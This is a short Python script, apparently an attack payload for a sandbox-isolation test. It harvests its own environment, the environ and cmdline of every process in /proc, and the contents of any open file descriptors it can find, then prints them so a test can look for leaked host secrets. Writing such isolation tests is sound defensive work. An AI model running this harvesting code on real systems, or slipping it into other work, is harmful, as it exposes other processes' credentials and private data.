"""Attack: collect every secret of the host it can reach.

Dumps its own environment, the environment and command line of every process it
can see in /proc, and the content of every descriptor it holds beyond stdio
(found both through /proc/self/fd and by probing numbers blindly). The test then
looks for the host's secrets in the dump.
"""

import contextlib
import json
import os

dump = {"environ": dict(os.environ), "proc": {}, "fds": {}}
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                dump["proc"][f"{pid}/{name}"] = f.read().decode("utf-8", "replace")
        except OSError:
            pass
listed = [int(fd) for fd in os.listdir("/proc/self/fd")]
dump["fd_list"] = listed
for fd in range(3, 1024):
    try:
        os.fstat(fd)
    except OSError:
        continue
    with contextlib.suppress(OSError):
        os.lseek(fd, 0, os.SEEK_SET)
    try:
        dump["fds"][str(fd)] = os.read(fd, 4096).decode("utf-8", "replace")
    except OSError as exc:
        dump["fds"][str(fd)] = f"unreadable: {exc}"
print(json.dumps(dump))
